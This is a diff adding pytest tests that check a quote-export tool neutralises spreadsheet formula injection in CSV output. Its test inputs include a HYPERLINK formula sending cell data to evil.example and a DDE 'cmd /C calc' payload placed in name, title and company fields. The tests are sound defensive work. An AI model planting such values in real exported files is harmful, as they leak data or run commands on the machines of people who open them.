@@ -136,3 +136,33 @@ def test_a_colleague_written_twice_is_an_error_not_a_buyer(repo, second):
     assert (f"content/transcripts/a.md:7: error: '{second}' is '{first}' again (names are compared ignoring case and "
             "Unicode form)") in result.stderr
     assert json.loads(repo.run("quotes", "--format", "json").stdout or '{"quotes": []}')["quotes"] == []
+
+
+# 30. CSV cells that a spreadsheet would run as a formula start with a ' instead.
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_start_a_formula_are_neutralised_in_every_text_column(repo, start):
+    import csv
+    import io
+
+    formula = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    repo.write("persona-site.toml", 'attribution = "name"\n')
+    path = repo.transcript("a.md", f"**{start}cmd|' /C calc'!A0:** [{formula}]{{.pain}} and [{start}SUM(1+1)]{{.objection}}\n",
+                           participants=f"  \"{start}cmd|' /C calc'!A0\": {{role: head-of-revops, title: '{start}1 evil'}}\n")
+    path.write_text(path.read_text().replace("company: Acme Corp", f"company: '{formula}'"))
+    result = repo.run("quotes", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert len(rows) == 2
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert {row["company"] for row in rows} == {f"'{formula}"}
+    assert {row["speaker"] for row in rows} == {f"'{start}cmd|' /C calc'!A0"}
+    assert {row["title"] for row in rows} == {f"'{start}1 evil"}
+    assert {row["text"] for row in rows} == {f"'{formula}", f"'{start}SUM(1+1)"}
+
+
+def test_csv_cells_starting_with_tab_or_cr_are_neutralised_and_others_kept():
+    from persona_site.cli import _cell
+
+    assert [_cell(v) for v in ("\tx", "\rx", "a=b", "", 7, None)] == ["'\tx", "'\rx", "a=b", "", 7, None]
